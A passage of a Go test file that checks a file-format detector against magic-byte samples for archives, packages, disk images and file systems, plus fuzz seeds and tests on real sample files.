		{"<div>\n<p>Some words.</p>\n</div>\n", Type{HTML, "HTML", "HTML"}},
		{"JM\x01\x00" + string(zipOf("classes/module-info.class", "classes/a.class")), Type{Zip, "Java module (JMOD)", "JMOD"}},
	} {
		got := Detect(strings.NewReader(c.in), int64(len(c.in)))
		if d := cmp.Diff(c.want, got); d != "" {
			t.Errorf("%.60q: %s", c.in, d)
		}
	}
}

func TestDetectOfRealFiles(t *testing.T) {
	for name, want := range map[string]Format{
		"dummy.pkg": XAR, "hello.jar": Jar, "hyperv.cat": Catalog, "dummy.cab": Cab, "dummy.xap": Zip, "dummy.apk": APK,
		"rocky-basesystem-11-13.el9.noarch.rpm": RPM, "VSIXProject1.vsix": Appx, "ClassLibrary1.dll": PE, "dummy.msi": MSI,
		"zlib1g_1.2.8.dfsg-5_i386.deb": Deb, "App1_1.0.3.0_x64.appx": Appx, "dummy.dmg": DMG, "hello.ps1xml": XML,
	} {
		f := open(t, realdata.Path(t, "files", "relic-functest", name))
		if got := Detect(f, f.Size()); got.Format != want {
			t.Errorf("%s: %+v, want %s", name, got, want)
		}
	}
}

func FuzzDetect(f *testing.F) {
	f.Add(pe(0x8664, 0x2022, 0x20B, 2, true))
	f.Add(elf(2, 1, 3, 62, true))
	f.Add(ole("", "Workbook", "VBA"))
	f.Add(zipOf("[Content_Types].xml", "word/vbaProject.bin"))
	f.Add(mimeZip("application/epub+zip"))
	f.Add([]byte("\xCA\xFE\xBA\xBE\x00\x00\x00\x02\x01\x00\x00\x07\x00\x00\x00\x03\x00\x00\x00\x40\x00\x00\x00\x20\x00\x00\x00\x0C"))
	f.Add([]byte(wide("<?xml version='1.0'?><plist>")))
	f.Add([]byte("From a@b\nFrom: a\nTo: b\nSubject: x\n\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		got := Detect(bytes.NewReader(b), int64(len(b)))
		if (got.Name == "") != (got.Format == Unknown) {
			t.Errorf("%+v", got)
		}
		// A file that is shorter than it was said to be must do no harm either.
		Detect(bytes.NewReader(b), int64(len(b))+1000)
	})
}
func open(t testing.TB, path string) *bytes.Reader {
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return bytes.NewReader(b)
}

func TestWebArchive(t *testing.T) {
	in := "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=\"x\"\n\n--x\nContent-Location: file:///a.htm\n"
	if got := Detect(strings.NewReader(in), int64(len(in))); got.Format != Mail {
		t.Errorf("told as %v", got)
	}
}

// TestVolumes holds by which marks file systems and disks are known, and what only looks like one.
func TestVolumes(t *testing.T) {
	image := func(size int, marks map[int]string) []byte {
		b := make([]byte, size)
		for at, mark := range marks {
			copy(b[at:], mark)
		}
		return b
	}
	const boot, sync = "\x55\xAA", "\x00\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\x00"
	const floppy = "\xEB\x3C\x90MSDOS5.0\x00\x02\x01\x01\x00\x02\xE0\x00\x40\x0B\xF0\x09\x00"
	for name, c := range map[string]struct {
		in   []byte
		want Type
	}{
		"raw sectors":       {image(60<<10, map[int]string{0: sync, 15: "\x01", 2352: sync, 16*2352 + 16: "\x01CD001"}), Type{ISO, "ISO 9660 image (raw sectors)", "ISO"}},
		"raw XA sectors":    {image(60<<10, map[int]string{0: sync, 15: "\x02", 2448: sync, 16*2448 + 24: "\x01CD001"}), Type{ISO, "ISO 9660 image (raw sectors)", "ISO"}},
		"HFS+":              {image(8<<10, map[int]string{1024: "H+\x00\x04"}), Type{HFS, "HFS+ file system", "HFS"}},
		"HFSX":              {image(8<<10, map[int]string{1024: "HX\x00\x05"}), Type{HFS, "HFSX file system", "HFS"}},
		"HFS":               {image(800<<10, map[int]string{1024: "BD"}), Type{Volume, "HFS file system", "HFS"}},
		"APFS":              {image(8<<10, map[int]string{32: "NXSB"}), Type{Volume, "APFS container", "APFS"}},
		"Btrfs":             {image(128<<10, map[int]string{0x10040: "_BHRfS_M"}), Type{Volume, "Btrfs file system", "BTRFS"}},
		"exFAT":             {image(8<<10, map[int]string{3: "EXFAT   ", 510: boot}), Type{ExFAT, "exFAT file system", "EXFAT"}},
		"BitLocker":         {image(8<<10, map[int]string{0: "\xEB\x58\x90-FVE-FS-", 510: boot}), Type{Volume, "BitLocker volume", "BITLOCKER"}},
		"NTFS":              {image(8<<10, map[int]string{3: "NTFS    ", 510: boot}), Type{NTFS, "NTFS file system", "NTFS"}},
		"floppy disk":       {image(1440<<10, map[int]string{0: floppy}), Type{FAT, "FAT file system", "FAT"}},
		"part of a floppy":  {image(8<<10, map[int]string{0: floppy, 510: boot}), Type{Other, "boot sector", "MBR"}},
		"MBR":               {image(8<<10, map[int]string{446: "\x80\x00\x00\x00\x07\x00\x00\x00\x04\x00\x00\x00\x04\x00\x00\x00", 510: boot}), Type{Disk, "disk image (MBR)", "IMG"}},
		"MBR of elsewhere":  {image(512, map[int]string{446: "\x80\x00\x00\x00\x07\x00\x00\x00\x04\x00\x00\x00\x04\x00\x00\x00", 510: boot}), Type{Other, "boot sector", "MBR"}},
		"GPT":               {image(8<<10, map[int]string{510: boot, 512: "EFI PART"}), Type{Disk, "disk image (GPT)", "IMG"}},
		"Apple's map":       {image(8<<10, map[int]string{0: "ER", 512: "PM\x00\x00"}), Type{Disk, "disk image (Apple partition map)", "IMG"}},
		"VHD of partitions": {image(8<<10, map[int]string{510: boot, 7680: "conectix\x00\x00\x00\x02"}), Type{Virtual, "Virtual PC disk", "VHD"}},
		"VHDX":              {image(8<<10, map[int]string{0: "vhdxfile"}), Type{Virtual, "Hyper-V disk", "VHDX"}},
	} {
		if got := Detect(bytes.NewReader(c.in), int64(len(c.in))); got != c.want {
			t.Errorf("%s: %+v, want %+v", name, got, c.want)
		}
	}
}
